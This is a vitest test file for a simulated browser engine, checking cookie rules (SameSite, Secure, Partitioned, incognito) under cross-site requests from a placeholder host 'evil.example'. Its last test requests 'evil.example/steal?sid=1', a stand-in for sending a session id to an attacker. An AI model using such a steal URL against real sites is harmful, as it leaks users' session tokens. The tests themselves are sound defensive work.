import { describe, expect, test } from 'vitest'
import type { Action, Via } from '@/lib/engine/story/action'
import { worldOf } from '@/lib/engine/test-world'

const alice: Action = { type: 'new-visitor', visitor: 'alice', url: 'https://shop.example/' }
const incognito: Action = { type: 'new-visitor', visitor: 'alice', url: 'https://shop.example/', incognito: true }

function from(via: Via, method = 'GET'): Action {
  return {
    type: 'visit',
    visitor: 'alice',
    method,
    url: 'https://shop.example/logout',
    via,
    from: 'https://evil.example',
    ...(method === 'POST' ? { body: 'a=1' } : {}),
  }
}

describe('arriving from another site', () => {
  const lines = () => ['strict=1; SameSite=Strict', 'lax=1; SameSite=Lax', 'none=1; SameSite=None; Secure']

  test.each<[Via, string, string]>([
    ['link', 'GET', 'lax=1; none=1'],
    ['form', 'GET', 'lax=1; none=1'],
    ['form', 'POST', 'none=1'],
    ['image', 'GET', 'none=1'],
    ['script', 'GET', 'none=1'],
  ])('by %s with %s sends %s', async (via, method, cookie) => {
    const run = await worldOf([alice, from(via, method)], lines)
    expect(run.sent('Cookie').at(-1)).toBe(cookie)
    expect(run.sent('Sec-Fetch-Site').at(-1)).toBe('cross-site')
  })

  test('opens a page, or none', async () => {
    const run = await worldOf([alice, from('link'), from('image'), from('form', 'POST'), from('script')], lines)
    expect(run.only('page-shown').map(({ exchange }) => exchange)).toEqual([1, 2, 4])
  })

  test('an image may set SameSite=None only; a link may set any', async () => {
    const fresh: Action = { type: 'new-visitor', visitor: 'alice' }
    const image = await worldOf([fresh, from('image')], lines)
    expect(image.jar('alice')).toEqual(['none=1'])
    expect(image.lastRules()).toEqual(['samesite-cross-site', 'samesite-cross-site', 'added'])
    const link = await worldOf([fresh, from('link')], lines)
    expect(link.jar('alice')).toEqual(['strict=1', 'lax=1', 'none=1'])
  })

  test('without saying how is by link; what is typed comes from nowhere', async () => {
    const there = { type: 'visit', visitor: 'alice', method: 'GET', url: 'https://shop.example/logout' } as const
    const unsaid: Action = { ...there, from: 'https://evil.example' }
    const run = await worldOf([alice, unsaid, there], lines)
    expect(run.only('request-sent').map(({ via }) => via)).toEqual(['address', 'link', 'address'])
    expect(run.sent('Sec-Fetch-Site')).toEqual(['none', 'cross-site', 'none'])
  })

  test('a reload of it is still from there, with Strict held back', async () => {
    const run = await worldOf([alice, from('link'), { type: 'reload', visitor: 'alice' }], lines)
    expect(run.sent('Cookie').at(-1)).toBe('lax=1; none=1')
    expect(run.lastRules()).toContain('withheld-strict-reload')
  })
})

describe('a partition', () => {
  const partitioned = () => ['part=1; Secure; SameSite=None; Partitioned', 'none=1; Secure; SameSite=None']

  test('is the site of the page in the window', async () => {
    const run = await worldOf([alice, from('image'), from('image'), from('link')], partitioned)
    const jar = run.world.visitors.get('alice')?.jar.all() ?? []
    expect(jar.map(({ name, partition }) => [name, partition])).toEqual([
      ['part', 'https://shop.example'],
      ['none', undefined],
      ['part', 'https://evil.example'],
    ])
    expect(run.sent('Cookie')).toEqual([null, 'none=1', 'none=1; part=1', 'part=1; none=1'])
  })

  test('is all that an incognito window lets through', async () => {
    const run = await worldOf([incognito, from('image'), from('image')], partitioned)
    expect(run.sent('Cookie')).toEqual([null, null, 'part=1'])
    expect(run.sent('Sec-Fetch-Storage-Access')).toEqual([null, 'none', 'none'])
    expect(run.lastRules()).toContain('third-party-refused')
  })
})

describe('https', () => {
  test('ends at the world’s proxy, which says so; plain http has no proxy', async () => {
    const visit = (url: string): Action => ({ type: 'visit', visitor: 'alice', method: 'GET', url })
    const run = await worldOf([alice, visit('http://shop.example/'), visit('http://localhost:9090/')])
    expect(run.sent('X-Forwarded-Proto')).toEqual(['https', null, null])
    expect(run.sent('Host')).toEqual(['shop.example', 'shop.example', 'localhost:9090'])
  })

  test('Secure cookies go over it only', async () => {
    const visit: Action = { type: 'visit', visitor: 'alice', method: 'GET', url: 'http://shop.example/' }
    const run = await worldOf([alice, visit], () => ['a=1; Secure'])
    expect(run.sent('Cookie')).toEqual([null, null])
    expect(run.lastRules()).toEqual(['withheld-secure', 'secure-needs-https'])
  })
})

test('the attacker serves nothing, and the request to him is on the wire', async () => {
  const visit: Action = { type: 'visit', visitor: 'alice', method: 'GET', url: 'https://evil.example/steal?sid=1' }
  const run = await worldOf([alice, visit])
  expect(run.only('request-sent').at(-1)?.request.target).toBe('/steal?sid=1')
  expect(run.only('exchange-failed')).toMatchObject([{ failure: 'connection-refused' }])
})
